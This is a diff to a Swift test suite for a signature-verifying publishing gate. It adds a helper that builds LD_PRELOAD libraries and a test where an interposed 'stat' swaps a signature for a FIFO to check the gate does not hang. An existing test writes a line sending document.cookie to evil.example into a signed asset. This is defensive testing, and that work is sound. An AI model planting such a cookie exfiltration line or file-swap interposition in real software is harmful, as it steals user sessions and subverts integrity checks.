@@ -205,12 +205,8 @@ extension PublishingGate {
     @Test(.timeLimit(.minutes(30))) func aFileSystemThatListsNoKindsIsWalkedAlike() throws {
         let c = try Corpus()
         defer { try? FileManager.default.removeItem(at: c.demo.dir) }
-        let shim = c.demo.dir.appendingPathComponent("unknown-kinds.so").path
-        let source = c.demo.dir.appendingPathComponent("unknown-kinds.c")
-        try CLI.write("""
-            #define _GNU_SOURCE
+        let unknownKinds = try c.preload("unknown-kinds", """
             #include <dirent.h>
-            #include <dlfcn.h>
             struct dirent *readdir(DIR *d) {
                 struct dirent *(*real)(DIR *) = (struct dirent *(*)(DIR *))dlsym(RTLD_NEXT, "readdir");
                 struct dirent *e = real(d);
@@ -223,13 +219,7 @@ extension PublishingGate {
                 if (e) e->d_type = DT_UNKNOWN;
                 return e;
             }
-
-            """, to: source)
-        let built = try CLI.run("clang", ["-shared", "-fPIC", "-O1", "-o", shim, source.path, "-ldl"])
-        try #require(built.code == 0, "clang: \(built.err)")
-        // (Under AddressSanitizer, the library comes before its runtime: allowed for this run.)
-        let asan = ProcessInfo.processInfo.environment["ASAN_OPTIONS"].map { $0 + ":" } ?? ""
-        let unknownKinds = ["LD_PRELOAD": shim, "ASAN_OPTIONS": asan + "verify_asan_link_order=0"]
+            """)
 
         try c.write("index.md", "---\ntitle: home\n---\n<script src=\"/assets/main.js\"></script>\n", sign: true)
         try c.write("assets/main.js", "console.log('signed');\n")
@@ -254,5 +244,58 @@ extension PublishingGate {
         #expect(try CLI.avault(gate, env: unknownKinds).code == 0)
         try c.write("assets/main.js", "fetch('https://evil.example/?' + document.cookie);\n")
         #expect(try CLI.avault(gate, env: unknownKinds).code == 1)
+    }
+
+    /// Found by the read of last session's diff: the gate looked at the kind of `PAGE.minisig`
+    /// (never opening a FIFO), then opened it to read it, blocking: a FIFO swapped in between
+    /// the two hung the gate. Here a `stat` that swaps the signature for a FIFO right after it
+    /// has looked at it (an `LD_PRELOAD` library built for the test) wins that race every time.
+    @Test(.timeLimit(.minutes(30))) func aSignatureSwappedForAFIFOAfterItsCheckDoesNotHangTheGate() throws {
+        let c = try Corpus()
+        defer { try? FileManager.default.removeItem(at: c.demo.dir) }
+        let swapping = try c.preload("swap-for-fifo", """
+            #include <stdio.h>
+            #include <string.h>
+            #include <sys/stat.h>
+            static int swapped;
+            int stat(const char *path, struct stat *st) {
+                int (*real)(const char *, struct stat *) = (int (*)(const char *, struct stat *))dlsym(RTLD_NEXT, "stat");
+                int r = real(path, st);
+                size_t n = strlen(path);
+                if (r == 0 && !swapped && n > 8 && strcmp(path + n - 8, ".minisig") == 0 && S_ISREG(st->st_mode)) {
+                    char moved[4096];
+                    snprintf(moved, sizeof moved, "%s.moved", path);
+                    swapped = rename(path, moved) == 0 && mkfifo(path, 0644) == 0;
+                }
+                return r;
+            }
+            """)
+        try c.write("index.md", "---\ntitle: home\n---\nhome\n", sign: true)
+        #expect(try CLI.avault(["sign", "--detached", c.path("index.md"), "--key", "demo-desk"] + c.demo.args).code == 0)
+        let gate = [CLI.avaultPath, "verify", "--require-signature", c.content.path] + c.ring
+        #expect(try CLI.run("/usr/bin/timeout", ["-s", "KILL", "60"] + gate).code == 0)
+        let r = try CLI.run("/usr/bin/timeout", ["-s", "KILL", "60"] + gate, env: swapping)
+        #expect(r.code == 1, "\(r.code) \(r.out)")
+        #expect(r.out.contains("\(c.path("index.md.minisig")): a FIFO, not a regular file"), "\(r.out)")
+        // The swap happened: the signature was moved away, a FIFO is in its place.
+        #expect(FileManager.default.fileExists(atPath: c.path("index.md.minisig.moved")))
+        var st = stat()
+        #expect(lstat(c.path("index.md.minisig"), &st) == 0 && st.st_mode & S_IFMT == S_IFIFO)
+    }
+}
+
+extension PublishingGate.Corpus {
+    /// Builds `source` (C, after `_GNU_SOURCE` and `dlfcn.h`) into a shared library beside the
+    /// corpus and returns the environment that loads it first in `avault` (`LD_PRELOAD`): to
+    /// stand in for a file system, or an attacker, that the machine cannot provide on demand.
+    func preload(_ name: String, _ source: String) throws -> [String: String] {
+        let library = demo.dir.appendingPathComponent(name + ".so").path
+        let file = demo.dir.appendingPathComponent(name + ".c")
+        try CLI.write("#define _GNU_SOURCE\n#include <dlfcn.h>\n" + source + "\n", to: file)
+        let built = try CLI.run("clang", ["-shared", "-fPIC", "-O1", "-o", library, file.path, "-ldl"])
+        try #require(built.code == 0, "clang: \(built.err)")
+        // Under AddressSanitizer, the library comes before the sanitizer's runtime: allowed here.
+        let asan = ProcessInfo.processInfo.environment["ASAN_OPTIONS"].map { $0 + ":" } ?? ""
+        return ["LD_PRELOAD": library, "ASAN_OPTIONS": asan + "verify_asan_link_order=0"]
     }
 }
